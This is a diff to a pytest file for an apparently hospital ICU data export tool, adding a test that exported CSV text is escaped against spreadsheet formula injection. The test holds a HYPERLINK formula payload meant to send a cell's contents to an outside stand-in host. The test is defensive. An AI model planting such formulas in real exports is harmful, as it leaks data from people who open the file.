@@ -21,7 +21,9 @@ import pytest
 
 from hospital.replay import Replay
 from tests.integration.test_training import DIED, ROOT, toml, write_ward
+from tests.support import seeded_ward
 from tests.support.batches import Client
+from tests.support.seeded_ward import START
 from tests.support.servers import rows
 from tool.data_handler import DataHandler
 from tool.database import Database, connect
@@ -31,6 +33,7 @@ from training import outcomes as outcome_file
 from training.config import Data, Label
 from training.config_file import ConfigError
 from training.database import DatabaseFailure
+from training.export import export
 from training.rows import assemble
 from training.stream import DataError, Stream
 from training.stream import read as read_stream
@@ -169,6 +172,29 @@ def test_an_export_holds_the_rows_of_the_tables(
         exported = found.itertuples(index=False, name=None)
         assert sorted(map(comparable, exported)) == sorted(map(comparable, stored))
     assert len(pd.read_parquet(file) if file_format == "parquet" else pd.read_csv(file)) == 0
+
+
+@pytest.mark.parametrize("file_format", ["csv", "parquet"])
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@"])
+def test_no_text_of_an_exported_csv_is_a_formula(
+    tmp_path: Path, file_format: str, begin: str
+) -> None:
+    name = f'{begin}HYPERLINK("http://example.org/?"&A1;"x")'
+    with seeded_ward.ward(tmp_path / "icu.sqlite") as made:
+        made.add_stay(-17, START)
+        made.add_reading(-17, START, START, name, -80.5)
+        made.execute("UPDATE stays SET place = ?, identifier = ?", name, "K-17")
+        made.commit()
+    files = {
+        path.stem: path
+        for path, _ in export(f"sqlite:///{tmp_path}/icu.sqlite", "", tmp_path, file_format)
+    }
+    read = pd.read_csv if file_format == "csv" else pd.read_parquet
+    reading = read(files["readings"]).iloc[0]
+    stay = read(files["stays"]).iloc[0]
+    expected = f"'{name}" if file_format == "csv" else name
+    assert (reading["parameter"], stay["place"]) == (expected, expected)
+    assert (reading["pat_id"], reading["value"], stay["identifier"]) == (-17, -80.5, "K-17")
 
 
 def test_an_export_of_an_unknown_stream_is_an_error(url: str, tmp_path: Path) -> None:
